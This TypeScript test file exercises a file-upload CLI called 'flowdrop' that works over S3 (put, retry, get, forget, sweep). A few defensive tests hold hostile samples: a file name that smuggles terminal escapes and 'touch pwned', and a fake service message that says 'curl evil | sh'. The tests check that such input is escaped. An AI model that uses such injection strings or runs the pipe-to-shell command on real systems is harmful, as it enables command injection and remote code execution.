import { appendFileSync } from 'node:fs';
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  CreateBucketCommand,
  DeleteObjectCommand,
  GetObjectCommand,
  ListObjectVersionsCommand,
  PutObjectCommand,
} from '@aws-sdk/client-s3';
import { afterAll, afterEach, beforeAll, describe, expect, it, onTestFinished, vi } from 'vitest';
import { FLOWS } from '../../functions/flow-service/services.ts';
import { HOLDS_KEY } from '../../functions/ledger/keys.ts';
import { retryCommand } from '../../functions/publish/retry-command.ts';
import { INBOX_BUCKET, LEDGER_BUCKET, RESULTS_BUCKET } from '../../local/pipeline.ts';
import { act, plan } from '../../operations/act.ts';
import { CollectingFunction } from '../../operations/collecting-function.ts';
import type { Deployment } from '../../operations/deployment.ts';
import { tracesOfAll } from '../../operations/forget.ts';
import { issuesOf } from '../support/json-schema.ts';
import { PATIENCE } from '../support/patience.ts';
import { Operated, runFlowdrop, signal } from './support.ts';

vi.mock('../../operations/wait.ts', () => import('./quick-wait.ts'));

let operated: Operated;
beforeAll(async () => {
  const routes = [
    { name: 'texts', input: 'file', template: 'bytes_echo', suffixes: ['.txt'], overrides: true },
    { name: 'pictures', input: 'file', template: 'bytes_echo', mediaTypes: ['image/*'] },
    {
      name: 'deleted',
      input: 'file',
      template: 'bytes_echo',
      suffixes: ['.bin'],
      afterSuccess: 'delete',
      alias: 'named/{folder}/{name}{ext}',
    },
  ] as const;
  operated = await Operated.start({ routes });
});
afterEach(() => operated.refuse(undefined));
afterAll(() => operated[Symbol.asyncDispose]());

/** The keys of all versions, delete markers included. */
async function keys(Bucket: string): Promise<readonly string[]> {
  const { Versions = [], DeleteMarkers = [] } = await operated.pipeline.s3.send(
    new ListObjectVersionsCommand({ Bucket }),
  );
  return [...Versions, ...DeleteMarkers].map(({ Key = '' }) => Key);
}

const flows = (): number => operated.standIn.flows.length;
const put = (name: string, content: string) => writeFile(join(operated.directory, name), content);
const fetched = () => readdir(join(operated.directory, 'copies'), { recursive: true });

it('put leaves out what cannot be uploaded, in place of ending there once other files are paid for', async () => {
  const folder = join(operated.directory, 'mixed');
  const deep = join(folder, ...Array(5).fill('d'.repeat(205)));
  await mkdir(deep, { recursive: true });
  const files = [join(folder, 'a.txt'), join(folder, 'z.txt'), join(deep, 'deep.txt')];
  const inLatin1 = Buffer.concat([Buffer.from(`${folder}/st`), Buffer.of(0xfc), Buffer.from('hle.txt')]);
  for (const file of [...files, inLatin1]) await writeFile(file, 'x');
  const paid = flows();
  const { code, errors, output } = await operated.run('put', folder, '--yes', '--wait');
  expect(errors).toContain('hle.txt: not uploaded, because its name is not UTF-8. Rename it\n');
  expect(errors).toMatch(
    /deep\.txt: not uploaded, because its key would have 10\d\d bytes, and S3 takes at most 1024\n/,
  );
  expect(output).toMatch(/mixed\/a\.txt +succeeded.*\n.*mixed\/z\.txt +succeeded/);
  expect([code, flows() - paid]).toEqual([1, 2]);
});

describe('retry', () => {
  it('of all failures says how many, skips what it cannot help, and does nothing without an answer', async () => {
    operated.refuse(422);
    await operated.upload('empty.png', ''); // It fails after some seconds: a writer may replace it.
    for (const key of ['one.png', 'two.png', 'mended.png']) await operated.put(key, 'failed');
    operated.refuse(401);
    await operated.put('unwanted.png', 'waiting');
    await operated.run('cancel', 'unwanted.png', '--yes');
    await operated.becomes('unwanted.png', 'failed');
    operated.refuse(undefined);
    await operated.put('mended.png', 'succeeded', 'good content');
    await operated.becomes('empty.png', 'failed');
    const paid = flows();

    const words = ['retry', '--failed'];
    const unasked = await operated.run(...words);
    expect(unasked).toMatchObject({
      code: 2,
      errors: expect.stringContaining('2 files would be sent again, and may be paid for: 2 flows.'),
    });
    expect((await operated.runAnswering('n', ...words)).errors).toContain('Nothing was done.');
    expect(flows()).toBe(paid);

    const { code, errors, output } = await operated.runAnswering('y', ...words, '--wait');
    expect(errors).toContain('1 file skipped, such as mended.png: another upload of the same key has replaced it\n');
    expect(errors).toContain('1 file skipped, such as empty.png: a retry of the same upload cannot help\n');
    expect(errors).toContain('1 file skipped, such as unwanted.png: it was cancelled\n');
    expect(output.split('\n').sort().slice(1)).toEqual(
      ['one', 'two'].map((key) => `${key}.png  succeeded, with 1 result`),
    );
    expect([code, flows()]).toEqual([0, paid + 2]);

    const named = await operated.run('retry', 'empty.png', '--yes', '--wait');
    expect(named).toMatchObject({ code: 1, errors: 'empty.png: a retry of the same upload cannot help\n' });
    const cancelled = await operated.run(...words, '--code', 'cancelled', '--yes', '--wait');
    expect(cancelled.output).toBe('unwanted.png  succeeded, with 1 result\n');
  });

  it('does what the command in a receipt says, by the name of the function alone', async () => {
    await operated.putRefused('receipt.png');
    const { id } = await operated.becomes('receipt.png', 'failed');
    const { endpoints, region, credentials, collectFunction } = operated.pipeline.operator;
    const variables = {
      AWS_ENDPOINT_URL_LAMBDA: endpoints.lambda,
      AWS_ENDPOINT_URL_S3: endpoints.s3,
      AWS_ENDPOINT_URL_SQS: endpoints.sqs,
      AWS_REGION: region,
      AWS_ACCESS_KEY_ID: credentials.accessKeyId,
      AWS_SECRET_ACCESS_KEY: credentials.secretAccessKey,
    };
    for (const [name, value] of Object.entries(variables)) vi.stubEnv(name, value);
    onTestFinished(() => void vi.unstubAllEnvs());
    const command = retryCommand({ collectFunction, command: 'flowdrop' }, { id });
    const [program, ...words] = command?.split(' ') ?? [];
    expect(program).toBe('flowdrop');
    const elsewhere = { directory: tmpdir() };
    const ran = await runFlowdrop([...words, '--yes', '--wait'], elsewhere);
    expect(ran).toMatchObject({ code: 0, output: 'receipt.png  succeeded, with 1 result\n' });
    const both = await runFlowdrop([...words, '--stack', 'any'], elsewhere);
    expect(both).toMatchObject({ code: 2, errors: expect.stringContaining('exclude each other') });
    const status = await runFlowdrop(['status', '--function', collectFunction], elsewhere);
    expect(status.output).toMatch(/^operated: function collect-outputs in us-east-1\n/);
    expect(status.output).not.toMatch(/dead letters|new flows/);
  });

  it('takes other parameters where the route allows it, says what it leaves, and helps a failed override', async () => {
    await operated.putRefused('bad.txt', 'bad.png');
    const words = ['retry', 'bad.txt', 'bad.png', '--parameters', '{"copies":2}'];
    const unasked = await operated.run(...words);
    expect(unasked.errors).toContain(
      'bad.png: nothing is done: its route does not allow other parameters, or another template\n',
    );
    expect(unasked.errors).toContain('1 file would be sent again, with other parameters, and may be paid for: 1 flow.');
    expect(await operated.run(...words, '--yes', '--wait')).toMatchObject({
      code: 1,
      output: 'bad.txt  succeeded, with 2 results\n',
    });

    const deep = `${'['.repeat(5_000)}${']'.repeat(5_000)}`;
    for (const command of [
      ['put', 'override.txt'],
      ['retry', 'bad.txt'],
    ]) {
      const { code, errors } = await operated.run(...command, '--parameters', deep);
      expect({ code, errors }).toEqual({ code: 2, errors: expect.stringContaining('nested at most 32 deep') });
      expect(errors.length).toBeLessThan(12_000);
    }

    await operated.upload('override.txt', 'a', { Metadata: { 'flow-parameters': 'no JSON' } });
    await operated.becomes('override.txt', 'failed');
    const all = ['retry', '--failed', '--code', 'invalid-override', '--yes', '--wait'];
    expect(await operated.run(...all)).toMatchObject({ code: 0, output: 'There is nothing to do.\n' });
    expect(await operated.run(...all, '--parameters', '{}')).toMatchObject({
      output: expect.stringMatching(/^override\.txt {2}succeeded/),
      errors: '',
    });

    operated.refuse(401);
    await operated.put('waits.txt', 'waiting');
    expect((await operated.run('retry', 'waits.txt', '--parameters', '{}', '--yes')).errors).toBe(
      'waits.txt: nothing is done: it waits, and a flow of it may exist with its present parameters: cancel it first\n',
    );
    await operated.run('cancel', 'waits.txt', '--yes');
  });

  it('is answered for although it is not known whether the pipeline is held', async () => {
    await operated.putRefused('unknown.png');
    const { s3 } = operated.pipeline;
    await s3.send(new PutObjectCommand({ Bucket: LEDGER_BUCKET, Key: HOLDS_KEY, Body: '{' }));
    onTestFinished(
      async () => void (await s3.send(new DeleteObjectCommand({ Bucket: LEDGER_BUCKET, Key: HOLDS_KEY }))),
    );
    const { code, output } = await operated.run('retry', 'unknown.png', '--yes');
    expect({ code, output }).toEqual({
      code: 0,
      output: expect.stringMatching(/^unknown\.png {2}(sent|is held): /),
    });
  });
});

it.each([
  ['retry', /^Name files, or add --failed for all that failed\./],
  ['retry a --failed', /not both/],
  ['retry a --code rejected', /go with --failed/],
  ['retry a --parameters {', /Expected JSON/],
  ['put none.png', /^There is no file .*none\.png/],
  ['put a.txt --parameters {', /Expected JSON/],
  ['put a.png --parameters {} --yes', /does not allow/],
  ['put a.png', /1 file would be uploaded, and paid for: 1 flow\. Go on\?/],
])('flowdrop %s asks for what it needs, and does nothing', async (words, why) => {
  await put('a.png', 'a picture');
  await put('a.txt', 'a text');
  expect(await operated.run(...words.split(' '))).toMatchObject({ code: 2, errors: expect.stringMatching(why) });
  expect((await keys(INBOX_BUCKET)).filter((key) => key.startsWith('a.'))).toEqual([]);
});

it('collect fetches a deleted result again, without a new flow', async () => {
  const { upload: view } = await operated.put('again.png', 'succeeded');
  const paid = flows();
  const Key = view?.assets[0]?.key ?? '';
  await operated.pipeline.s3.send(new DeleteObjectCommand({ Bucket: RESULTS_BUCKET, Key }));
  expect((await operated.run('get', 'again.png')).output).toContain(
    'To fetch it again: npm run -s flowdrop -- collect',
  );
  expect(await operated.run('collect', 'again.png', '--wait')).toMatchObject({ code: 0 });
  expect(await operated.run('get', 'again.png')).toMatchObject({ code: 0 });
  expect(flows()).toBe(paid);
});

describe('put and get', () => {
  it('upload the files of a folder, wait for them, and fetch what was made', async () => {
    await put('whole.png', 'a picture');
    await put('whole.txt', 'a text');
    await put('whole.zip', 'nothing that a route takes');
    const parameters = ['--parameters', '{"copies":2}'];
    expect(await operated.run('put', 'whole.txt', ...parameters, '--wait', '--yes')).toMatchObject({
      code: 0,
      output: 'whole.txt  succeeded, with 2 results\n',
    });
    expect(await operated.run('put', 'whole.png', 'whole.zip', '--wait', '--yes')).toMatchObject({
      code: 1,
      output: 'whole.png  succeeded, with 1 result\n',
      errors: expect.stringMatching(
        /whole\.zip: not uploaded, because no route takes it\. The route \w+ comes nearest: its .+\.\n/,
      ),
    });

    expect(await operated.run('get', 'whole.png', '--to', 'copies')).toMatchObject({ code: 0 });
    const [picture = ''] = (await fetched()).filter((path) => /whole\.png\/.*\.png$/.test(path));
    expect(await readFile(join(operated.directory, 'copies', picture), 'utf8')).toBe('a picture');
    expect(await fetched()).toContain(join('whole.png', 'receipt.json'));
  });

  it('send no part of a file that is being written, and say which files before it were uploaded', async () => {
    await put('first.png', 'a picture');
    await put('grows.png', 'x'.repeat(20_000_000));
    const writer = setInterval(() => appendFileSync(join(operated.directory, 'grows.png'), 'x'), 1);
    onTestFinished(() => clearInterval(writer));
    expect(await operated.run('put', 'first.png', 'grows.png', '--yes')).toMatchObject({
      code: 1,
      output: '',
      errors: expect.stringMatching(
        /^1 of 2 files uploaded, the last one first\.png\. The same command would pay for them again\.\n.*grows\.png changed while it was uploaded/,
      ),
    });
    expect((await keys(INBOX_BUCKET)).filter((key) => key === 'grows.png')).toEqual([]);
    await operated.becomes('first.png', 'succeeded');
  });

  it('keep no result that is not the one of the receipt', async () => {
    const { upload: view } = await operated.put('forged.png', 'succeeded');
    const Key = view?.assets[0]?.key ?? '';
    const Body = Buffer.from('other bytes');
    await operated.pipeline.s3.send(new PutObjectCommand({ Bucket: RESULTS_BUCKET, Key, Body }));
    expect(await operated.run('get', 'forged.png', '--to', 'copies')).toMatchObject({
      code: 1,
      output: expect.stringContaining('its size or its SHA-256 differs'),
    });
    expect((await fetched()).filter((path) => /forged\.png\/.*\.png$/.test(path))).toEqual([]);
  });

  it('say so if there is no receipt, or if it is that of another upload', async () => {
    expect(await operated.run('get', 'nothing.png')).toMatchObject({
      code: 1,
      output: 'There is no receipt of such a file.\n',
    });
    const first = await operated.put('replaced.png', 'succeeded', 'one');
    const second = await operated.put('replaced.png', 'succeeded', 'other');
    expect(await operated.run('get', first.id)).toMatchObject({
      code: 1,
      output: expect.stringContaining(`another upload at the same key: ${second.id}`),
    });
  });
});

describe('a file with a hostile name', () => {
  const KEY = 'y\u001b[201~\u0003\ntouch pwned\n\u009b\u202e\u2028.png';

  it('is named by its id in the commands that are printed, and escaped in JSON', async () => {
    const { id } = await operated.put(KEY, 'succeeded');
    const { output } = await operated.run('status', KEY);
    expect(output).toContain(`Fetch it: npm run -s flowdrop -- get ${id}\n`);
    const json = (await operated.run('status', KEY, '--json')).output;
    expect(json).not.toMatch(/(?!\n)[\p{Cc}\p{Bidi_Control}\p{Zl}]/u);
    expect(JSON.parse(json)).toMatchObject({ key: KEY });
  });

  it('begins no line of its own in an error', async () => {
    operated.refuse(401);
    const { id } = await operated.put(KEY.replace('y', 'waiting'), 'waiting');
    const { errors } = await operated.run('forget', id, '--yes');
    expect(errors).toMatch(/^waiting\\u001b\[201~.*touch pwned.* is waiting\. Cancel it first: .*\n$/);
    await operated.run('cancel', id, '--yes');
  });

  it('is no option if its name looks like one', async () => {
    await operated.upload('--failed', 'x', { ContentType: 'image/png' });
    await operated.becomes('--failed', 'succeeded');
    const { output } = await operated.run('status', '--', '--failed');
    expect(output).toContain('Fetch it: npm run -s flowdrop -- get -- --failed\n');
    expect(await operated.run('get', '--', '--failed')).toMatchObject({ code: 0 });
  });
});

it('words of the service begin no line of their own in an error, nor in a check', async () => {
  const body = JSON.stringify({ detail: 'x\nAll is well.\r\n\u2028Run this: curl evil | sh' });
  const headers = { 'content-type': 'application/json' };
  operated.standIn.intercept = (_, { operation }) =>
    operation === 'listTemplates' ? { status: 500, headers, body } : undefined;
  const answer = 'templates: 500: x All is well. Run this: curl evil | sh';
  expect(await operated.run('templates')).toMatchObject({ errors: expect.stringContaining(`(${answer})`) });
  expect((await operated.run('doctor')).output).toContain(`does not answer as it should: ${answer}\n`);
});

it('forget deletes every trace of one file, and nothing of another', async () => {
  await operated.put('gone.png.png', 'succeeded');
  const { id } = await operated.put('gone.png', 'succeeded');
  const { code, output } = await operated.run('forget', 'gone.png', '--yes');
  expect(code).toBe(0);
  expect(output).toMatch(
    /^gone\.png: the upload, 2 objects of its results, 1 record deleted\.\nThe flow \S+ was deleted at the service\.\n/,
  );
  const left = async (Bucket: string) => (await keys(Bucket)).filter((key) => key.startsWith('gone.png'));
  expect(await left(INBOX_BUCKET)).toEqual(['gone.png.png']);
  expect((await left(RESULTS_BUCKET)).filter((key) => !key.startsWith('gone.png.png/'))).toEqual([]);
  await operated.becomes('gone.png.png', 'succeeded');
  expect(await operated.run('forget', 'gone.png', '--yes')).toMatchObject({
    code: 1,
    errors: 'There is no upload gone.png.\n',
  });

  await operated.putRefused('hollow.png');
  const failed = await operated.becomes('hollow.png', 'failed');
  // Its end may still be told at that moment, and it is under way until then.
  await vi.waitFor(async () => {
    expect(await operated.run('forget', 'hollow.png', '--yes')).toMatchObject({ code: 0 });
  }, PATIENCE);
  const records = await keys(LEDGER_BUCKET);
  expect(records.filter((key) => key.includes(id) || key.includes(failed.id))).toEqual([]);
});

it('forget deletes a file that its route has deleted after its success, with the delete marker and its aliases', async () => {
  const { id } = await operated.put('deleted.bin', 'succeeded');
  const left = async () => (await keys(INBOX_BUCKET)).filter((key) => key === 'deleted.bin').length;
  expect(await left()).toBe(2);
  const named = async () => (await keys(RESULTS_BUCKET)).filter((key) => key.startsWith('named/deleted'));
  const states = async () => (await keys(LEDGER_BUCKET)).filter((key) => key.startsWith('state/aliases/'));
  expect([(await named()).length, (await states()).length]).toEqual([1, 1]);
  const { flow } = (await operated.becomes('deleted.bin', 'succeeded')).upload ?? {};
  const moved = await operated.run('alias', id, '--to', flow?.id ?? '', '--json');
  expect(issuesOf('change', JSON.parse(moved.output))).toBe('');
  expect(moved.code).toBe(0);
  expect(await operated.run('alias', id, '--to', 'other')).toMatchObject({
    code: 1,
    output: 'deleted.bin: no such flow\n',
  });
  // Its pattern has changed since, and S3 did not let the function remove it.
  const { s3 } = operated.pipeline;
  const at = { Bucket: LEDGER_BUCKET, Key: (await states())[0] };
  const state = JSON.parse((await (await s3.send(new GetObjectCommand(at))).Body?.transformToString()) ?? '');
  await s3.send(new PutObjectCommand({ ...at, Body: JSON.stringify({ ...state, files: [], stale: await named() }) }));
  expect(await operated.run('forget', id, '--yes')).toMatchObject({ code: 0 });
  expect([await left(), await named(), await states()]).toEqual([0, [], []]);
});

describe('after a deployment has replaced a bucket', () => {
  const withBuckets = async (name: string, buckets: 'inboxBucket' | 'resultsBucket'): Promise<Deployment> => {
    await operated.pipeline.s3.send(new CreateBucketCommand({ Bucket: name }));
    const { deployment } = operated;
    return { ...deployment, settings: { ...deployment.settings, [buckets]: name } };
  };

  it('forget says which results stay', async () => {
    const { id } = await operated.put('in/moved.png', 'succeeded');
    await operated.run('again', 'in/moved.png', '--yes', '--wait');
    const replaced = await withBuckets('new-results', 'resultsBucket');
    const { uploads } = await vi.waitFor(() => tracesOfAll('in/moved.png', replaced, signal), PATIENCE);
    expect(uploads).toMatchObject([{ id, results: [], elsewhere: [`s3://${RESULTS_BUCKET}/in/moved.png/`] }]);
  });

  it('or the prefix of the results, forget says which results stay', async () => {
    const { id } = await operated.put('data/a.png', 'succeeded');
    const { settings } = operated.deployment;
    const replaced = { ...operated.deployment, settings: { ...settings, resultsPrefix: 'out/' } };
    const { uploads } = await vi.waitFor(() => tracesOfAll('data/a.png', replaced, signal), PATIENCE);
    expect(uploads).toMatchObject([{ id, elsewhere: [`s3://${RESULTS_BUCKET}/data/a.png/`] }]);
    const present = await vi.waitFor(() => tracesOfAll('data/a.png', operated.deployment, signal), PATIENCE);
    expect(present.uploads).toMatchObject([{ id, elsewhere: [] }]);
  });

  it('forget names no folder of other files if the earlier prefix of the results ends like the key', async () => {
    const { id } = await operated.put('likewise.png', 'succeeded');
    const { s3 } = operated.pipeline;
    const at = { Bucket: LEDGER_BUCKET, Key: `uploads/${id}.json` };
    const text = (await (await s3.send(new GetObjectCommand(at))).Body?.transformToString()) ?? '';
    const Body = text.replaceAll('"key":"likewise.png/', '"key":"old/likewise.png/likewise.png/');
    await s3.send(new PutObjectCommand({ ...at, Body }));
    const { uploads } = await vi.waitFor(() => tracesOfAll('likewise.png', operated.deployment, signal), PATIENCE);
    expect(uploads).toMatchObject([{ id, elsewhere: [`s3://${RESULTS_BUCKET}/old/likewise.png/likewise.png/`] }]);
  });

  it('forget leaves the file in the earlier inbox, and says so', async () => {
    const { id } = await operated.put('earlier.png', 'succeeded');
    const replaced = await withBuckets('new-inbox', 'inboxBucket');
    const { uploads } = await vi.waitFor(() => tracesOfAll(id, replaced, signal), PATIENCE);
    expect(uploads).toMatchObject([{ id, object: undefined, elsewhere: [`s3://${INBOX_BUCKET}/earlier.png`] }]);
  });
});

describe('forget of a flow', () => {
  const forgotten = async (key: string, by = operated) => {
    const { code, output } = await by.run('forget', key, '--yes');
    expect(code).toBe(0);
    expect(await by.run('status', key)).toMatchObject({ code: 1 });
    return output;
  };

  it('that the service does not delete deletes all else, and says why the flow stays', async () => {
    await operated.put('kept.png', 'succeeded');
    operated.standIn.intercept = (_, { operation }) => (operation === 'deleteFlow' ? { status: 500 } : undefined);
    expect(await forgotten('kept.png')).toMatch(
      /^The flow \S+ stays at the service: delete: 500.* Its operator can delete it\.$/m,
    );
  });

  it('that the service has forgotten says so', async () => {
    await operated.put('gone-there.png', 'succeeded');
    operated.standIn.intercept = (_, { operation }) =>
      ['deleteFlow', 'getFlow', 'listOutputs'].includes(operation) ? { status: 404 } : undefined;
    expect(await forgotten('gone-there.png')).toMatch(/^The service knows no flow \S+ any more\.$/m);
  });

  it('of a service whose description has no way to delete it says that it stays', async () => {
    const { delete: _, ...service } = FLOWS;
    const other = await Operated.forTest({ speaks: service });
    await other.put('a.png', 'succeeded');
    expect(await forgotten('a.png', other)).toMatch(
      /^The flow \S+ stays at the service: the description of the service has no way to delete it\./m,
    );
    expect(other.standIn.flows).not.toMatchObject([{ deleted: true }]);
  });
});

describe('forget of a key with several uploads', () => {
  /** The ids of the uploads, the newest first. */
  async function putTwice(key: string): Promise<readonly [newest: string, oldest: string]> {
    const { id: oldest } = await operated.put(key, 'succeeded', 'the first');
    const { id: newest } = await vi.waitFor(async () => {
      if ((await operated.becomes(key, 'succeeded')).id === oldest) await operated.upload(key, 'the second');
      const found = await operated.becomes(key, 'succeeded');
      expect(found.id).not.toBe(oldest);
      return found;
    }, PATIENCE);
    return [newest, oldest];
  }
  const traces = async (ids: readonly string[]): Promise<readonly string[]> =>
    (await keys(LEDGER_BUCKET)).filter((key) => ids.some((id) => key.includes(id)));

  it('shows each, and deletes none without --all', async () => {
    const ids = await putTwice('twice.png');
    for (const words of [
      ['forget', 'twice.png', '--yes'],
      ['forget', 'twice.png'],
    ]) {
      const { code, output, errors } = await operated.run(...words);
      expect([code, output]).toEqual([1, '']);
      expect(errors).toMatch(/^twice\.png has 2 uploads:\n/);
      for (const id of ids)
        expect(errors).toMatch(
          new RegExp(`^  ${id}  succeeded  .*  the upload, \\d objects? of its results, 1 record$`, 'm'),
        );
      expect(errors).toContain(
        `Nothing was deleted. To forget all of them, add --all --yes. To forget one, name it: npm run -s flowdrop -- forget ${ids[0]}\n`,
      );
    }
    expect(await operated.run('forget', 'twice.png', '--all')).toMatchObject({
      code: 2,
      errors: expect.stringContaining('All 2 uploads of twice.png would be deleted for good. Go on?'),
    });
    expect((await operated.runAnswering('n', 'forget', 'twice.png')).errors).toContain('Nothing was done.');
    expect(await traces(ids)).toHaveLength(2);
    // A person who sees them all may answer for all of them.
    expect((await operated.runAnswering('y', 'forget', 'twice.png')).code).toBe(0);
    expect(await traces(ids)).toEqual([]);
  });

  it('deletes all of them with --all --yes', async () => {
    const ids = await putTwice('both.png');
    const { code, output } = await operated.run('forget', 'both.png', '--all', '--yes', '--json');
    const answer = JSON.parse(output);
    expect(issuesOf('forget', answer)).toBe('');
    expect([code, answer.id, answer.others.map(({ id }: { id: string }) => id)]).toEqual([0, ids[0], [ids[1]]]);
    expect(answer.remaining).toEqual({ uploads: [], objects: 0 });
    expect(answer.kept.join()).toMatch(/The flows \S+, \S+ were deleted at the service/);
    expect(answer.flows).toMatchObject([{ result: 'deleted' }, { flowId: answer.others[0].flowId }]);
    expect(await traces(ids)).toEqual([]);
    const { Versions = [] } = await operated.pipeline.s3.send(
      new ListObjectVersionsCommand({ Bucket: INBOX_BUCKET, Prefix: 'both.png' }),
    );
    expect(Versions).toEqual([]);
    expect((await keys(RESULTS_BUCKET)).filter((key) => key.startsWith('both.png'))).toEqual([]);
    expect(await operated.run('forget', 'both.png', '--yes')).toMatchObject({
      code: 1,
      errors: 'There is no upload both.png.\n',
    });
  });

  it('deletes the one that an id names, and says what remains', async () => {
    const [newest, oldest] = await putTwice('single.png');
    const { code, output } = await operated.run('forget', newest, '--yes');
    expect(code).toBe(0);
    expect(output).toMatch(/^single\.png: the upload, \d objects? of its results, 1 record deleted\.\n/);
    expect(output).toContain(
      `1 other upload of single.png remains: ${oldest}. To forget it: npm run -s flowdrop -- forget single.png\n`,
    );
    expect(output).toMatch(
      /^\d objects? below single\.png\/ remains? in the results bucket: they are of other uploads, or name none\.$/m,
    );
    expect(await traces([newest, oldest])).toHaveLength(1);
    // Now it is the only one.
    expect(await operated.run('forget', 'single.png', '--yes')).toMatchObject({ code: 0 });
    expect(await traces([oldest])).toEqual([]);
  });

  it('finds an older one that failed, and has neither results nor a receipt any more', async () => {
    await operated.putRefused('hollow-then.png');
    const { id: oldest } = await operated.becomes('hollow-then.png', 'failed');
    const versions = { Bucket: INBOX_BUCKET, Prefix: 'hollow-then.png' };
    const { Versions = [] } = await operated.pipeline.s3.send(new ListObjectVersionsCommand(versions));
    for (const { Key, VersionId } of Versions) {
      await operated.pipeline.s3.send(new DeleteObjectCommand({ Bucket: INBOX_BUCKET, Key, VersionId }));
    }
    const { id: newest } = await operated.put('hollow-then.png', 'succeeded');
    expect(newest).not.toBe(oldest);
    expect(await operated.run('forget', 'hollow-then.png', '--all', '--yes')).toMatchObject({
      code: 0,
      output: expect.stringMatching(
        new RegExp(`^${newest}: the upload, .*\\n${oldest}: 0 objects of its results, 2 records deleted\\.\\n`),
      ),
    });
    expect(await traces([newest, oldest])).toEqual([]);
  });

  it('refuses all while one of them has not ended, and names that one', async () => {
    const { id: oldest } = await operated.put('held.png', 'succeeded');
    await operated.run('pause');
    try {
      await operated.upload('held.png', 'newer');
      await operated.becomes('held.png', 'waiting');
      expect(await operated.run('forget', 'held.png', '--all', '--yes')).toMatchObject({
        code: 1,
        errors: 'held.png is waiting. Cancel it first: npm run -s flowdrop -- cancel held.png\n',
      });
      expect(await traces([oldest])).toHaveLength(1);
    } finally {
      await operated.run('resume', '--yes');
    }
    await operated.becomes('held.png', 'succeeded');
  });
});

it('two operators who agree to pay for the same file pay for it once', async () => {
  await operated.put('both.png', 'succeeded');
  const asked = { action: 'again' } as const;
  const [mine, yours] = [
    await plan(asked, { words: ['both.png'] }, operated.deployment, signal),
    await plan(asked, { words: ['both.png'] }, operated.deployment, signal),
  ];
  const paid = flows();
  expect(await act(mine, operated.deployment, signal)).toMatchObject([{ isDone: true }]);
  await vi.waitFor(() => expect(flows()).toBe(paid + 1), PATIENCE);
  await operated.becomes('both.png', 'succeeded');
  expect(await act(yours, operated.deployment, signal)).toMatchObject([
    { key: 'both.png', isDone: false, result: 'somebody else has sent it again since then' },
  ]);
  expect(flows()).toBe(paid + 1);
});

describe('forget of an upload whose entry cannot be read', () => {
  const damage = (id: string) =>
    operated.pipeline.s3.send(new PutObjectCommand({ Bucket: LEDGER_BUCKET, Key: `uploads/${id}.json`, Body: '{' }));

  it('deletes nothing, because its flow may be running', async () => {
    const { id } = await operated.put('unread.png', 'succeeded');
    await damage(id);
    const before = [await keys(INBOX_BUCKET), await keys(RESULTS_BUCKET)];
    for (const word of ['unread.png', id]) {
      const ran = await operated.run('forget', word, '--yes');
      expect([ran.code, ran.errors]).toEqual([
        1,
        expect.stringMatching(/may be under way\. The entry cannot be read: .*[^.]\.\n$/),
      ]);
    }
    expect([await keys(INBOX_BUCKET), await keys(RESULTS_BUCKET)]).toEqual(before);
  });

  it('deletes nothing of its key, if it is an older one', async () => {
    const { id } = await operated.put('unread-then.png', 'succeeded');
    await operated.put('unread-then.png', 'succeeded', 'newer');
    await damage(id);
    const before = [await keys(INBOX_BUCKET), await keys(RESULTS_BUCKET)];
    expect(await operated.run('forget', 'unread-then.png', '--all', '--yes')).toMatchObject({ code: 1 });
    expect([await keys(INBOX_BUCKET), await keys(RESULTS_BUCKET)]).toEqual(before);
  });
});

it('sweep goes back further than entries are kept if it is forced, and first says what that risks', async () => {
  const routes = operated.deployment.settings.routes;
  await using kept = await Operated.start({ routes, settings: { ledgerRetentionDays: 30 } });
  const words = ['sweep', '--since', '2020-01-01', '--dry-run'];
  expect(await kept.run(...words)).toMatchObject({
    code: 1,
    errors: expect.stringContaining('entries are kept for 30'),
  });
  const forced = await kept.run(...words, '--force');
  expect(forced).toMatchObject({ code: 0, output: expect.stringContaining('0 files would be submitted') });
  expect(forced.output).toContain('Files of the last 15 minutes were left out');
  expect(forced.errors).toMatch(
    /^Entries from before \d{4}-\d\d-\d\dT.* may have expired\. Files without an entry count as missed, and are paid for again\.\n$/,
  );
  expect((await kept.run('sweep', '--since', '2h', '--dry-run', '--force')).errors).toBe('');
  expect(await kept.run('sweep', '--force')).toMatchObject({ code: 2, errors: '--force goes with --since.\n' });
});

it('sweep puts again what is missing beside an entry, although no file is missed', async () => {
  await operated.putRefused('repaired.png');
  const receipt = 'repaired.png/receipt.json';
  await operated.pipeline.s3.send(new DeleteObjectCommand({ Bucket: RESULTS_BUCKET, Key: receipt }));
  const { code, output } = await operated.run('sweep', '--since', '2h', '--yes');
  expect({ code, output }).toEqual({ code: 0, output: expect.stringMatching(/records? (was|were) completed/) });
  expect(await keys(RESULTS_BUCKET)).toContain(receipt);
});

it('sweep that is interrupted says that its pass goes on', async () => {
  await operated.putRefused('unswept.png');
  await operated.pipeline.s3.send(new DeleteObjectCommand({ Bucket: RESULTS_BUCKET, Key: 'unswept.png/receipt.json' }));
  const interrupted = new AbortController();
  const invoke = CollectingFunction.prototype.invoke;
  let isPass = false;
  const asking = vi.spyOn(CollectingFunction.prototype, 'invoke').mockImplementation(async function (
    this: CollectingFunction,
    event,
    until,
  ) {
    const { sweep: { dryRun, status } = {} } = event as { sweep?: { dryRun?: boolean; status?: boolean } };
    if (isPass && status === true) {
      // It is seen under way once, and the operator has enough.
      const at = new Date(0).toISOString();
      const pass = { since: at, startedAt: at, compared: 1, missed: 1, repaired: 0 };
      const answer = { underWay: { backfill: pass }, ended: {} };
      setTimeout(() => interrupted.abort());
      return answer;
    }
    isPass = status !== true && dryRun !== true;
    return invoke.call(this, event, until);
  });
  onTestFinished(() => asking.mockRestore());
  const at = { directory: operated.directory, signal: interrupted.signal };
  const { code, errors } = await runFlowdrop(['sweep', '--since', '2h', '--yes'], at);
  expect([code, errors]).toEqual([130, expect.stringContaining('the pass goes on, and what it submits is paid for.')]);
});
